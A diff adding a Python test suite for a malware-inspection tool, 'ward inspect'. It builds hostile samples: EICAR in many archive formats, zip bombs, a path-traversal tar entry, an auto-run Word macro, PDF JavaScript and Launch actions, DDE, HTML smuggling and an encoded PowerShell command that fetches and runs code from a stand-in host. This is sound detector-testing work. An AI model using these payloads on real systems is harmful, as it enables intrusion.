@@ -1,0 +1,568 @@
+#!/usr/bin/env python3
+"""`ward inspect` on real files: what is found in them, and that nothing is found in what is sound.
+
+Usage: inspect.py WARD CONTENT
+
+Made here: DICOM objects by dcmtk and polyglots of them, EICAR in every container, and containers in
+each other, bombs, quines of archives, damaged files, mail. Taken from the system: programs, documents,
+images and fonts of Debian. Nothing of it is run.
+"""
+import base64
+import bz2
+import gzip
+import hashlib
+import io
+import json
+import lzma
+import os
+import pwd
+import shutil
+import signal
+import struct
+import subprocess
+import sys
+import tarfile
+import tempfile
+import time
+import zipfile
+import zlib
+
+WARD, CONTENT = sys.argv[1:3]
+# In two halves, so that this file is none itself.
+EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + rb"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+failed = []
+
+
+def run(paths, *options, environment=None):
+    env = {k: v for k, v in os.environ.items() if k != "WARD_LANG"} | (environment or {})
+    return subprocess.run([WARD, "inspect", "--content", CONTENT, "--clamd", "/nonexistent", *options, *paths],
+                          capture_output=True, text=True, env=env)
+
+
+def inspect(*paths):
+    r = run(paths, "--json")
+    if r.stderr:
+        failed.append(r.stderr)
+    return [json.loads(line) for line in r.stdout.splitlines()]
+
+
+def reasons(report):
+    return {r["reason"] for r in report["reasons"]}
+
+
+def check(what, ok, report=None):
+    if not ok:
+        failed.append(f"{what}: {json.dumps(report)[:600] if report else ''}")
+
+
+def write(name, data):
+    with open(name, "wb") as f:
+        f.write(data)
+    return name
+
+
+def archive(fmt, name, files):
+    """One of the formats that libarchive writes, of (name, bytes)."""
+    with tempfile.TemporaryDirectory() as d:
+        for n, data in files:
+            write(os.path.join(d, n), data)
+        subprocess.run(["bsdtar", "-cf", os.path.abspath(name), "--format", fmt, "-C", d,
+                        *[n for n, _ in files]], check=True)
+    return name
+
+
+def zipped(files, level=zipfile.ZIP_DEFLATED):
+    b = io.BytesIO()
+    with zipfile.ZipFile(b, "w", level) as z:
+        for n, data in files:
+            z.writestr(n, data)
+    return b.getvalue()
+
+
+def mail(attachments):
+    parts = [b"From: a@hospital.example\r\nTo: b@hospital.example\r\nSubject: results\r\n"
+             b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"=b=\"\r\n\r\nnothing\r\n"]
+    for name, kind, data in attachments:
+        parts.append(b"--=b=\r\nContent-Type: " + kind + b"; name=\"" + name + b"\"\r\n"
+                     b"Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"" + name +
+                     b"\"\r\n\r\n" + base64.encodebytes(data) + b"\r\n")
+    return b"".join(parts) + b"--=b=--\r\n"
+
+
+def pdf(objects):
+    """Objects as they are, numbered from 1; the last is the catalogue. Streams are (dictionary, bytes)."""
+    out, at = bytearray(b"%PDF-1.7\n"), []
+    for i, o in enumerate(objects, 1):
+        at.append(len(out))
+        if isinstance(o, tuple):
+            o = b"<< %s /Length %d >>\nstream\n%s\nendstream" % (o[0], len(o[1]), o[1])
+        out += b"%d 0 obj\n%s\nendobj\n" % (i, o)
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % a for a in at)
+    return bytes(out + b"trailer << /Root %d 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n"
+                 % (len(objects), len(objects) + 1, xref))
+
+
+def dicom(name, lines):
+    """By dump2dcm: one line per element."""
+    write("dump.txt", "".join(line + "\n" for line in lines).encode())
+    subprocess.run(["dump2dcm", "-q", "+Ug", "dump.txt", name], check=True)
+    return name
+
+
+IMAGE = ["(0008,0016) UI =SecondaryCaptureImageStorage", "(0008,0018) UI [1.2.3.4.5]",
+         "(0010,0010) PN [Doe^Jane]", "(0028,0002) US 1", "(0028,0004) CS [MONOCHROME2]",
+         "(0028,0010) US 4", "(0028,0011) US 4", "(0028,0100) US 8", "(0028,0101) US 8", "(0028,0102) US 7",
+         "(0028,0103) US 0"]
+PIXELS = "(7fe0,0010) OB " + "\\".join("%02x" % i for i in range(16))
+
+
+def pixels(n):
+    return "(7fe0,0010) OB " + "\\".join("%02x" % (i & 255) for i in range(n))
+
+
+def hexed(data):
+    return "\\".join("%02x" % b for b in data)
+
+
+def patch(name, to, data):
+    """The preamble of a DICOM object is another."""
+    with open(name, "rb") as f:
+        whole = f.read()
+    return write(to, data.ljust(128, b"\0") + whole[128:])
+
+
+def medical():
+    with open("/bin/true", "rb") as f:
+        elf = f.read()
+    pe = windows_program()
+    good = dicom("good.dcm", IMAGE + [PIXELS])
+    r, = inspect(good)
+    check("a DICOM image is clean", r["verdict"] == "clean" and r["identified"] == "dicom", r)
+    want = {"mz.dcm": (pe[:128], "dicom-preamble-program", "malicious"),
+            "elf.dcm": (elf[:128], "dicom-preamble-program", "malicious"),
+            "html.dcm": (b"<html><script>alert(1)</script><!--", "dicom-preamble-script", "suspicious"),
+            "sh.dcm": (b"#!/bin/sh\necho hello\nexit\n", "dicom-preamble-script", "suspicious"),
+            "tiff.dcm": (b"II*\0\x08\0\0\0", "dicom-preamble-tiff", "clean"),
+            "odd.dcm": (b"\1\2\3", "dicom-preamble-other", "notice")}
+    for name, (head, reason, verdict) in want.items():
+        r, = inspect(patch(good, name, head))
+        check(name, reason in reasons(r) and r["verdict"] == verdict, r)
+        # It still is a DICOM object, to those who read one.
+        check(name + " reads", subprocess.run(["dcmdump", "-q", name], capture_output=True).returncode == 0)
+    r, = inspect(dicom("private.dcm", IMAGE + ["(0029,0010) LO [WARD TEST]", "(0029,1010) OB " + hexed(pe), PIXELS]))
+    check("a program in a private element", "medical-carries-program" in reasons(r) and r["verdict"] == "malicious", r)
+    check("it is named", any(x.get("b") == "(0029,1010)" for x in r["reasons"]), r)
+    r, = inspect(dicom("pixels.dcm", IMAGE + [pixels(30)]))
+    check("too many pixels", reasons(r) == {"dicom-pixel-length"}, r)
+    write("doc.pdf", pdf([b"<< /Type /Catalog >>"]))
+    subprocess.run(["pdf2dcm", "-q", "doc.pdf", "doc.dcm"], check=True)
+    r, = inspect("doc.dcm")
+    check("an encapsulated PDF is found, and sound", r["verdict"] == "clean" and
+          any(p["identified"] == "pdf" for p in r["parts"]), r)
+    with open("doc.dcm", "rb") as f:
+        whole = f.read()
+    at, body = whole.index(b"%PDF-"), pe[:os.path.getsize("doc.pdf")]
+    r, = inspect(write("lie.dcm", whole[:at] + body + whole[at + len(body):]))
+    check("a document that is a program", {"dicom-document-other-kind", "medical-carries-program"} <= reasons(r) and
+          r["verdict"] == "malicious", r)
+    with open(good, "rb") as f:
+        whole = f.read()
+    r, = inspect(write("syntax.dcm", whole.replace(b"1.2.840.10008.1.2.1\0", b"1.2.840.10008.1.2\0\0\0")))
+    check("a transfer syntax that lies", "dicom-transfer-syntax" in reasons(r), r)
+    for n in range(140, len(whole), 7):
+        write("cut.dcm", whole[:n])
+        r, = inspect("cut.dcm")
+        check(f"cut at {n}", r["identified"] == "dicom" and not reasons(r) & {"cell-killed", "cell-time"}, r)
+    ed = b"MSH|^~\\&|LAB|H|EPR|H|20260101||ORU^R01|1|P|2.5\rOBX|1|ED|PDF^R||LAB^application^pdf^Base64^%s||||||F\r"
+    r, = inspect(write("good.hl7", ed % base64.b64encode(open("doc.pdf", "rb").read())))
+    check("an HL7 attachment", r["identified"] == "hl7" and r["parts"][0]["identified"] == "pdf" and
+          r["verdict"] == "clean", r)
+    r, = inspect(write("bad.hl7", ed % base64.b64encode(pe)))
+    check("a program in HL7", "medical-carries-program" in reasons(r) and r["verdict"] == "malicious", r)
+
+
+def windows_program(section=b".text", flags=0x60000020, entry=0x1000):
+    """A small program of Windows (PE32+), sound by default: heads, and one section that returns."""
+    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
+    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
+    optional = struct.pack("<HBBIIIII", 0x20b, 14, 0, 512, 0, 0, entry, 0x1000)
+    optional += struct.pack("<QIIHHHHHHIIIIHH", 0x140000000, 0x1000, 512, 6, 0, 0, 0, 6, 0, 0, 0x2000, 512, 0, 3, 0x100)
+    optional += struct.pack("<QQQQII", 1 << 20, 4096, 1 << 20, 4096, 0, 16) + bytes(128)
+    table = section.ljust(8, b"\0") + struct.pack("<IIIIIIHHI", 512, 0x1000, 512, 512, 0, 0, 0, 0, flags)
+    return (dos + coff + optional + table).ljust(512, b"\0") + b"\x31\xc0\xc3".ljust(512, b"\xcc")
+
+
+def eicar():
+    inside = [("eicar.com", EICAR)]
+    made = {
+        "e.zip": zipped(inside), "stored.zip": zipped(inside, zipfile.ZIP_STORED),
+        "e.gz": gzip.compress(EICAR), "e.bz2": bz2.compress(EICAR), "e.xz": lzma.compress(EICAR),
+        "e.lzma": lzma.compress(EICAR, lzma.FORMAT_ALONE), "e.eml": mail([(b"x.txt", b"text/plain", EICAR)]),
+        "e.pdf": pdf([(b"/Type /EmbeddedFile /Filter /FlateDecode", zlib.compress(EICAR)), b"<< /Type /Catalog >>"]),
+        "hex.pdf": pdf([(b"/Type /EmbeddedFile /Filter [/ASCIIHexDecode /FlateDecode]",
+                         zlib.compress(EICAR).hex().encode() + b">"), b"<< /Type /Catalog >>"]),
+        "a85.pdf": pdf([(b"/Filter [/ASCII85Decode]", base64.a85encode(EICAR) + b"~>"), b"<< /Type /Catalog >>"]),
+        "e.rtf": b"{\\rtf1{\\object\\objemb{\\*\\objdata " + EICAR.hex().encode() + b"}}}",
+        "e.png": png() + EICAR, "e.docx": zipped([("[Content_Types].xml", b"<?xml version='1.0'?><Types/>"),
+                                                  ("word/media/x.bin", EICAR)]),
+        "e.ole": compound([("WordDocument", bytes(5000)), ("data", EICAR), ("large", bytes(500) + EICAR + bytes(6000))]),
+        "e.hl7": b"MSH|^~\\&|A\rOBX|1|ED|X||A^application^octet-stream^Base64^" + base64.b64encode(EICAR) + b"\r",
+        "e.com": EICAR,
+    }
+    for name, data in made.items():
+        write(name, data)
+    for fmt in ("7zip", "ustar", "pax", "cpio", "newc", "iso9660", "xar", "arbsd"):
+        archive(fmt, "e." + fmt, inside)
+        made["e." + fmt] = None
+    for ending in ("Z", "zst", "lz4", "lz"):
+        subprocess.run(["bsdtar", "-acf", "e.tar." + ending, "e.com"], check=True)
+        made["e.tar." + ending] = None
+    dicom("e.dcm", IMAGE + ["(0029,0010) LO [WARD TEST]", "(0029,1010) OB " + hexed(zipped(inside)), PIXELS])
+    made["e.dcm"] = None
+    # each container in each of some others
+    for outer, wrap in {"in.zip": lambda n, d: zipped([(n, d)]), "in.gz": lambda n, d: gzip.compress(d),
+                        "in.eml": lambda n, d: mail([(n.encode(), b"application/octet-stream", d)]),
+                        "in.pdf": lambda n, d: pdf([(b"/Type /EmbeddedFile /Filter /FlateDecode", zlib.compress(d)),
+                                                    b"<< /Type /Catalog >>"]),
+                        "in.tar": lambda n, d: tarred([(n, d)])}.items():
+        for name in list(made):
+            if not name.startswith("nested-"):
+                with open(name, "rb") as f:
+                    inner = "nested-" + name + "-" + outer
+                    write(inner, wrap(name, f.read()))
+                    made[inner] = None
+    for name, r in zip(made, inspect(*made)):
+        found = [x for x in r["reasons"] if x["reason"] == "rule" and x.get("a") == "eicar"]
+        check(f"EICAR in {name}", found and r["verdict"] == "malicious", r)
+    print(f"EICAR found in {len(made)} containers")
+
+
+def tarred(files):
+    b = io.BytesIO()
+    with tarfile.open(fileobj=b, mode="w") as t:
+        for name, data in files:
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            t.addfile(info, io.BytesIO(data))
+    return b.getvalue()
+
+
+def png():
+    def chunk(kind, data):
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) +
+            chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b""))
+
+
+def compound(streams):
+    """A compound file (MS-CFB) of sectors of 512 bytes; short streams in the mini stream."""
+    end, free, fatsect = 0xfffffffe, 0xffffffff, 0xfffffffd
+    sectors, fat, mini, minifat, entries = [], [], bytearray(), [], []
+
+    def place(data):
+        first = len(sectors)
+        for i in range(0, len(data), 512):
+            sectors.append(data[i:i + 512].ljust(512, b"\0"))
+            fat.append(len(sectors))
+        fat[-1] = end
+        return first
+    for name, data in streams:
+        if len(data) < 4096:
+            first = len(minifat)
+            for i in range(0, len(data), 64):
+                mini += data[i:i + 64].ljust(64, b"\0")
+                minifat.append(len(minifat) + 1)
+            minifat[-1] = end
+        else:
+            first = place(data)
+        entries.append((name, 2, first, len(data)))
+    root = place(bytes(mini)) if mini else end
+    mf = place(struct.pack(f"<{len(minifat)}I", *minifat).ljust(512, b"\xff")) if minifat else end
+    directory = b"".join(
+        name.encode("utf-16-le").ljust(64, b"\0") +
+        struct.pack("<HBBIII16sIQQIQ", 2 * len(name) + 2, kind, 1, free, free, 1 if kind == 5 and len(entries) else free,
+                    bytes(16), 0, 0, 0, first, size)
+        for name, kind, first, size in [("Root Entry", 5, root, len(mini))] + entries)
+    directory_at = place(directory)
+    fat_at = len(sectors)
+    fat.append(fatsect)
+    sectors.append(struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff"))
+    head = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) +
+            struct.pack("<HHHHH6sIIIIIIIIII", 0x3e, 3, 0xfffe, 9, 6, bytes(6), 0, 1, directory_at, 0, 4096, mf,
+                        1 if minifat else 0, end, 0, fat_at)).ljust(512, b"\xff")
+    return head + b"".join(sectors)
+
+
+def limits():
+    deep = EICAR
+    for i in range(100):
+        deep = zipped([(f"{i}.zip", deep)])
+    r, = inspect(write("deep.zip", deep))
+    check("100 deep", "too-deep" in reasons(r), r)
+    bomb = zipped([(f"{i}", bytes(64 << 20)) for i in range(4)])
+    r, = inspect(write("bomb.zip", bomb))
+    check("a bomb", "bomb" in reasons(r) and r["verdict"] != "clean", r)
+    r, = inspect(write("bomb.gz", gzip.compress(gzip.compress(bytes(200 << 20)))))
+    check("a bomb in gzip", "bomb" in reasons(r), r)
+    r, = inspect(write("many.zip", zipped([(f"{i}.txt", b"%d" % i) for i in range(6000)])))
+    check("too many", "too-many" in reasons(r), r)
+    r, = inspect(write("r.gz", quine()))
+    check("an archive that contains itself", "contains-itself" in reasons(r), r)
+    whole = zipped([("a.txt", os.urandom(3000)), ("b.txt", b"b" * 3000)])
+    for n in range(1, len(whole), 301):
+        r, = inspect(write("cut.zip", whole[:n]))
+        check(f"a ZIP cut at {n}", not reasons(r) & {"cell-killed", "cell-time"}, r)
+    subprocess.run(["zip", "-q", "-P", "secret", "locked.zip", "e.com"], check=True)
+    r, = inspect("locked.zip")
+    check("a password", "password-protected" in reasons(r), r)
+    r, = inspect(write("slip.tar", tarred([("../../etc/cron.d/x", b"* * * * * root true\n")])))
+    check("a path that leads out", "path-leads-out" in reasons(r) and r["verdict"] == "suspicious", r)
+    cyclic = bytearray(compound([("a", bytes(9000)), ("b", bytes(100))]))
+    at = 512 * (1 + struct.unpack_from("<I", cyclic, 76)[0])
+    struct.pack_into("<I", cyclic, at, 0)  # the first sector follows itself
+    r, = inspect(write("cyclic.ole", bytes(cyclic)))
+    check("a chain that is a cycle", not reasons(r) & {"cell-killed", "cell-time"}, r)
+
+
+def quine():
+    """A gzip file that unpacks to itself, but for the checksum in its end (the construction is R. Cox's, 2010): each
+    instruction has 5 bytes, head and end have 15."""
+    bits = []
+
+    def put(value, n, msb=False):
+        bits.extend((value >> (n - 1 - i if msb else i)) & 1 for i in range(n))
+    put(2, 3)  # not the last block, fixed codes (RFC 1951 3.2.6)
+    for _ in range(2):  # 10 bytes from 20 back
+        put(8, 7, True)
+        put(8, 5, True)
+        put(3, 3)
+    put(0, 7)
+    back = bytes(sum(bits[i + k] << k for k in range(8)) for i in range(0, 40, 8))
+
+    def lit(units):
+        return struct.pack("<BHH", 0, 5 * units, 0xffff ^ 5 * units)
+    head = bytes.fromhex("1f8b0808000000000003") + b"self\0"
+    end = bytes.fromhex("0208100000ffff") + bytes(8)
+    l0, l1, l4 = lit(0), lit(1), lit(4)
+    whole = b"".join([head, l4, head, l4, back, l1, back, l1, l1, l4, back, l1, l1, l4, back, l4, back, l4, back, l4,
+                      back, l4, back, l0, l0, l4, back, l0, l0, l4, back, end, back, end])
+    assert zlib.decompress(whole[15:-8], -15) == whole
+    return whole
+
+
+def names():
+    pe = windows_program()
+    r, = inspect(write("scan.pdf", pe))
+    check("a program named as a document", "name-hides-program" in reasons(r) and r["verdict"] == "suspicious", r)
+    r, = inspect(write("result.pdf.exe", pe))
+    check("two endings", "name-double-ending" in reasons(r) and r["verdict"] == "suspicious", r)
+    r, = inspect(write("invoice\u202efdp.exe", pe))
+    check("a name that turns", "name-turns-direction" in reasons(r), r)
+    r = json.loads(run([write("x.bin", png())], "--json", "--type", "application/pdf").stdout)
+    check("a type that lies", reasons(r) == {"type-other-kind"}, r)
+    r, = inspect(write("m.eml", mail([(b"letter.exe", b"application/pdf", pe)])))
+    check("a program by mail", {"mail-carries-program", "type-other-kind"} <= reasons(r) and
+          r["verdict"] == "suspicious", r)
+    r, = inspect(write("act.pdf", pdf([b"<< /S /JavaScript /JS (app.alert(1)) >>",
+                                       b"<< /Type /Catalog /Open#41ction 1 0 R >>"])))
+    check("a PDF that acts", {"pdf-script", "pdf-acts-when-opened"} <= reasons(r), r)
+    order = base64.b64encode("Write-Host 1; IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"
+                             .encode("utf-16-le"))
+    r, = inspect(write("run.bat", b"powershell -w hidden -enc " + order + b"\r\n"))
+    check("an encoded order", {"script-obfuscated", "script-fetches-and-runs"} <= reasons(r) and
+          any(p["identified"] == "powershell" for p in r["parts"]), r)
+    r, = inspect(write("wide.ps1", "iex (irm x); iex (New-Object Net.WebClient).DownloadString('x')\r\n"
+                       .encode("utf-16")))
+    check("a script in UTF-16", "script-fetches-and-runs" in reasons(r), r)
+    r, = inspect(write("page.html", b"<html><script>var d=atob('" + base64.b64encode(zipped([("e.com", EICAR)]) * 8) +
+                       b"');a.href=URL.createObjectURL(new Blob([d]))</script></html>"))
+    check("a page that smuggles", "script-obfuscated" in reasons(r) and r["verdict"] == "malicious", r)
+    macro = (b"Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nCreateObject(\"WScript.Shell\").Run \"calc\"\r\n"
+             b"End Sub\r\n")
+    r, = inspect(write("m.doc", compound([("WordDocument", bytes(5000)), ("M", b"\1" + vba(macro))])))
+    check("a macro", {"macros", "macro-runs-by-itself", "macro-starts-programs"} <= reasons(r) and
+          r["verdict"] == "suspicious", r)
+
+
+def vba(text):
+    """MS-OVBA 2.4.1 with letters as they are only."""
+    body = b"".join(b"\0" + text[i:i + 8] for i in range(0, len(text), 8))
+    return struct.pack("<H", 0xb000 | (len(body) - 1)) + body
+
+
+def office(parts):
+    return zipped([("[Content_Types].xml", b"<?xml version='1.0'?><Types/>")] + parts)
+
+
+def shortcut(arguments):
+    """MS-SHLLINK: a head, a relative path, arguments."""
+    head = struct.pack("<I16sI", 0x4c, bytes.fromhex("0114020000000000c000000000000046"), 0x80 | 0x20 | 0x08)
+    texts = b"".join(struct.pack("<H", len(t)) + t.encode("utf-16-le") for t in
+                     ("..\\..\\Windows\\System32\\cmd.exe", arguments))
+    return head.ljust(76, b"\0") + texts
+
+
+def acting():
+    """Each reason against programs, documents, images and shortcuts is reached, and by what it is about alone."""
+    pe = windows_program()
+    target = b'<?xml version="1.0"?><Relationships><Relationship Id="1" Type="http://schemas.example/%s" ' \
+             b'Target="http://x.example/t" TargetMode="External"/></Relationships>'
+    rtf = b"{\\rtf1{\\object%s{\\*\\objdata 0105000002000000}}}"
+    want = {
+        "good.exe": (pe, set()), "upx.exe": (windows_program(b"UPX0"), {"program-packed"}),
+        "rwx.exe": (windows_program(flags=0xe0000020), {"program-writes-its-code"}),
+        "out.exe": (windows_program(entry=0x9000), {"program-entry-outside"}),
+        "inject.exe": (pe + b"VirtualAllocEx\0WriteProcessMemory\0CreateRemoteThread\0", {"program-injects"}),
+        "short.exe": (pe[:100], {"damaged"}), "a.pdf" + " " * 40 + ".exe": (pe, {"name-padded", "name-double-ending"}),
+        "in.pdf": (pdf([(b"/Type /EmbeddedFile", pe), b"<< /Type /Catalog >>"]), {"document-carries-program"}),
+        "behind.png": (png() + pe, {"image-carries-program"}),
+        "both.png": (png() + zipped([("a.txt", b"a")]), {"two-kinds-at-once"}),
+        "launch.pdf": (pdf([b"<< /S /Launch /F (x) >>", b"<< /Type /Catalog >>"]), {"pdf-launches"}),
+        "fetch.docx": (office([("word/_rels/settings.xml.rels", target % b"attachedTemplate")]), {"document-fetches"}),
+        "link.docx": (office([("word/_rels/document.xml.rels", target % b"hyperlink")]), set()),
+        "dde.docx": (office([("word/document.xml", b'<?xml version="1.0"?><w:instrText>DDEAUTO c:\\\\x "a"'
+                              b"</w:instrText>")]), {"document-dde"}),
+        "good.docx": (office([("word/document.xml", b'<?xml version="1.0"?><w:t>text</w:t>')]), set()),
+        "update.rtf": (rtf % b"\\objupdate", {"embedded-object"}),
+        "equation.rtf": (rtf % b"{\\*\\objclass Equation.3}", {"equation-object"}),
+        "good.rtf": (b"{\\rtf1 text}", set()), "act.lnk": (shortcut("/c powershell"), {"shortcut-runs-interpreter"}),
+        "good.png": (png(), set()),
+    }
+    for name, (data, _) in want.items():
+        write(name, data)
+    for (name, (_, reason)), r in zip(want.items(), inspect(*want)):
+        check(name, reasons(r) == reason, r)
+    os.makedirs("hospital", exist_ok=True)
+    shutil.copy(os.path.join(CONTENT, "..", "pilots", "turin", "hospital.yml"), "hospital/hospital.yml")
+    write("hospital/limits.yml", b"limits:\n  file.unpacked: 65536\n")
+    r = json.loads(run([write("large.zip", zipped([("a", os.urandom(200000))]))], "--json", "--hospital",
+                       "hospital").stdout)
+    check("a file that unpacks to too much", reasons(r) == {"too-large"}, r)
+    write("hospital/limits.yml", b"limits:\n  file.memory: 67108864\n")
+    r = json.loads(run([write("fat.zip", zipped([("a", bytes(1 << 20) + os.urandom(120 << 20))], zipfile.ZIP_STORED))],
+                       "--json", "--hospital", "hospital").stdout)
+    check("a cell that has too little memory", "cell-memory" in reasons(r), r)
+    os.unlink("hospital/limits.yml")
+
+
+def lists():
+    os.makedirs("hospital/inspect/rules", exist_ok=True)
+    shutil.copy(os.path.join(CONTENT, "..", "pilots", "turin", "hospital.yml"), "hospital/hospital.yml")
+    write("hospital/inspect/block.txt", b"# known bad\n" + hashlib.md5(b"bad\n").hexdigest().encode() + b"  a test\n")
+    write("hospital/inspect/allow.txt", hashlib.sha256(open("e.zip", "rb").read()).hexdigest().encode() + b" ours\n")
+    write("hospital/inspect/rules/own.yar", b'rule own { meta: says = "of ours" weight = 50 strings: $a = "quux" '
+          b'condition: $a }\n')
+    r = [json.loads(x) for x in run([write("bad.txt", b"bad\n"), "e.zip", write("own.txt", b"a quux\n")], "--json",
+                                    "--hospital", "hospital").stdout.splitlines()]
+    check("a block list", r[0]["verdict"] == "malicious" and reasons(r[0]) == {"blocked"}, r[0])
+    check("an allow list", r[1]["verdict"] == "clean" and reasons(r[1]) == {"allowed"}, r[1])
+    check("a rule of the hospital", r[2]["score"] == 50 and r[2]["reasons"][0]["a"] == "own", r[2])
+    write("hospital/inspect/block.txt", b"nonsense\n")
+    write("hospital/inspect/rules/own.yar", b"rule own {\n condition: nonsense }\n")
+    r = run(["e.zip"], "--hospital", "hospital")
+    check("what is wrong is named", r.returncode == 3 and "block.txt:1" in r.stderr and "own.yar:2" in r.stderr and
+          not r.stdout, {"stderr": r.stderr})
+
+
+def sound():
+    """A bounded sample of what Debian installs: nothing of it is suspicious."""
+    found = []
+    for top in ("/usr/bin", "/usr/lib/x86_64-linux-gnu", "/usr/share/doc", "/usr/share/fonts", "/usr/share/icons",
+                "/usr/share/perl5", "/usr/lib/python3", "/usr/share/man/man1"):
+        here = []
+        for folder, _, names_here in os.walk(top):
+            here += [os.path.join(folder, n) for n in names_here]
+        here = sorted(p for p in here if os.path.isfile(p) and not os.path.islink(p) and os.path.getsize(p) < 1 << 20)
+        found += here[::max(1, len(here) // 40)][:40]
+    bad = [r for r in inspect(*found) if r["verdict"] in ("suspicious", "malicious")]
+    check("sound files are not suspicious", not bad, [(r["file"], r["reasons"]) for r in bad])
+    print(f"{len(found)} files of the system: {len(bad)} suspicious")
+
+
+def cells():
+    """A cell that takes too long, or is killed while it looks, is a finding; the next file is looked at."""
+    noise = os.urandom(24 << 20)
+    slow = noise
+    for i in range(12):  # each level is hashed and searched
+        slow = zipped([(f"{i}.zip", slow)], zipfile.ZIP_STORED)
+    write("slow.zip", slow)
+    shutil.rmtree("hospital/inspect")
+    write("hospital/limits.yml", b"limits:\n  file.seconds: 1\n")
+    r = run(["slow.zip", "e.com"], "--json", "--hospital", "hospital")
+    reports = [json.loads(x) for x in r.stdout.splitlines()]
+    check("a cell that takes too long", "cell-time" in reasons(reports[0]), reports[0])
+    check("and the next file", len(reports) == 2 and reports[1]["verdict"] == "malicious", {"stderr": r.stderr})
+    os.unlink("hospital/limits.yml")
+    for sign, name in ((signal.SIGSEGV, "SEGV"), (signal.SIGSYS, "SYS")):
+        p = subprocess.Popen([WARD, "inspect", "--content", CONTENT, "--json", "slow.zip"], stdout=subprocess.PIPE)
+        children = f"/proc/{p.pid}/task/{p.pid}/children"
+        cell = ""
+        while p.poll() is None and not cell:
+            with open(children) as f:
+                cell = f.read().strip()
+        # Once it is caged: it holds nothing but the file and the pipe.
+        while p.poll() is None and "Seccomp:\t2" not in open(f"/proc/{cell}/status").read():
+            pass
+        held = sorted(os.listdir(f"/proc/{cell}/fd"))
+        os.kill(int(cell), sign)
+        report = json.loads(p.communicate()[0])
+        check(f"a cell killed by SIG{name}", {"reason": "cell-killed", "a": name}.items() <=
+              report["reasons"][-1].items() and report["verdict"] == "suspicious", report)
+        check("what it holds", held == ["3", "4"], {"held": held})
+
+
+def antivirus():
+    """ClamAV's own daemon, which knows two files by signatures of ours."""
+    clamd = shutil.which("clamd") or "/usr/sbin/clamd"
+    if not os.path.exists(clamd):
+        print("clamd is not installed: what it says was not tried")
+        return
+    os.makedirs("signatures")
+    bad = write("known.bin", os.urandom(5000))
+    data = open(bad, "rb").read()
+    write("signatures/own.hdb", f"{hashlib.md5(data).hexdigest()}:{len(data)}:Ward.Test.Known\n".encode())
+    here = os.getcwd()
+    write("clamd.conf", f"LocalSocket {here}/clamd\nDatabaseDirectory {here}/signatures\nForeground yes\n"
+          f"StreamMaxLength 2M\nLogFile {here}/clamd.log\nUser {pwd.getpwuid(os.getuid()).pw_name}\n"
+          .encode())
+    p = subprocess.Popen([clamd, "-c", "clamd.conf"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        for _ in range(600):
+            if os.path.exists("clamd") or p.poll() is not None:
+                break
+            time.sleep(0.1)
+        large = write("large.bin", bytes(3 << 20))
+        r = [json.loads(x) for x in run([bad, write("k.zip", zipped([("k", data)])), "good.dcm", large], "--json",
+                                        "--clamd", "clamd").stdout.splitlines()]
+        check("ClamAV finds", "antivirus" in reasons(r[0]) and r[0]["clamav"] == "found" and
+              r[0]["verdict"] == "malicious" and "Ward.Test.Known" in r[0]["reasons"][0]["a"], r[0])
+        check("ClamAV finds in a ZIP", "antivirus" in reasons(r[1]), r[1])
+        check("ClamAV finds nothing", r[2]["clamav"] == "clean" and r[2]["verdict"] == "clean", r[2])
+        check("ClamAV takes no more", r[3]["clamav"] == "failed" and "cell-killed" not in reasons(r[3]), r[3])
+    finally:
+        p.terminate()
+        p.wait()
+
+
+def people():
+    texts = {code: run(["mz.dcm"], "--lang", code).stdout for code in ("en", "fr", "it", "nl")}
+    check("four languages", len(set(texts.values())) == 4 and "MZ" not in texts["fr"], texts)
+    r = run(["mz.dcm", "good.dcm"])
+    check("the exit code", r.returncode == 1 and run(["good.dcm"]).returncode == 0 and
+          run(["missing"]).returncode == 3 and run([]).returncode == 2, {"code": r.returncode})
+    bad = write("a\x1b[31m.txt", b"x")
+    check("a name drives no terminal", "\x1b" not in run([bad]).stdout)
+
+
+def main():
+    with tempfile.TemporaryDirectory() as d:
+        os.chdir(d)
+        for part in (eicar, medical, limits, names, acting, lists, cells, antivirus, people, sound):
+            part()
+    print("\n".join(failed) if failed else "ok")
+    sys.exit(1 if failed else 0)
+
+
+main()
